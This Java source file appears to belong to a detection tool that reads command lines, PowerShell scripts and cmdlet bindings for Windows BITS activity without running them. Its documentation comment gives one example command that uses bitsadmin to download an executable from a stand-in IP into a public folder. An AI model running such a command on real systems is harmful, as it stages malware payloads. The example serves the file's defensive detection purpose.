package org.bitshound.command;

import java.util.List;
import java.util.Optional;

/// Reads command lines, scripts and bound parameters as what they would do with BITS. Nothing is
/// run, looked up or guessed: what is not known is said in the reading. Any text at all is taken;
/// the time grows with its length.
///
/// ```java
/// new CommandReader().ofProcess(Optional.of("C:\\Windows\\System32\\cmd.exe"), Optional.empty(),
///     "cmd /c bitsadmin /transfer n http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe")
/// ```
///
/// is one reading of [Tool#BITSADMIN] with [Wrapper#CMD] peeled off. Immutable, so safe for
/// threads.
public final class CommandReader {
  /// Knows all that it needs.
  public CommandReader() {}

  /// {@return what the command line of a process would do with BITS}
  ///
  /// @param image path of the program that ran; absent where not known
  /// @param originalFileName as its version resource has it; absent where not known
  public Understood ofProcess(
      Optional<String> image, Optional<String> originalFileName, String commandLine) {
    if (!mightMatter(image, originalFileName, commandLine)) {
      return Understood.NOTHING;
    }
    var unwrapping = new Unwrapping(commandLine);
    new StartedImage(image, originalFileName.filter(StartedImage::saysSomething))
        .read(commandLine, unwrapping);
    return unwrapping.understood();
  }

  /// {@return what a script would do with BITS}
  ///
  /// @param powerShellText a script block as event 4104 has it, or a file
  public Understood ofScript(String powerShellText) {
    if (!Gate.isOpenToScript(powerShellText)) {
      return Understood.NOTHING;
    }
    var unwrapping = new Unwrapping(powerShellText);
    unwrapping.powerShell(powerShellText, Way.direct());
    return unwrapping.understood();
  }

  /// {@return what a cmdlet would do; absent where it is none of BITS}
  ///
  /// @param commandName as PowerShell resolved it (events 4103 and 800: `CommandInvocation`)
  /// @param bindings with full names, which PowerShell has resolved, too
  public Optional<Reading> ofCmdlet(String commandName, List<Binding> bindings) {
    return Cmdlet.named(commandName).map(cmdlet -> BoundCmdlet.read(cmdlet, bindings));
  }

  /// {@return whether anything of BITS can be in the command line: cheap, and never wrong where it
  /// says no}
  ///
  /// @param image path of the program that ran; absent where not known
  /// @param originalFileName as its version resource has it; absent where not known
  public static boolean mightMatter(
      Optional<String> image, Optional<String> originalFileName, String commandLine) {
    return Gate.isOpen(image.orElse(""), originalFileName.orElse(""), commandLine);
  }
}
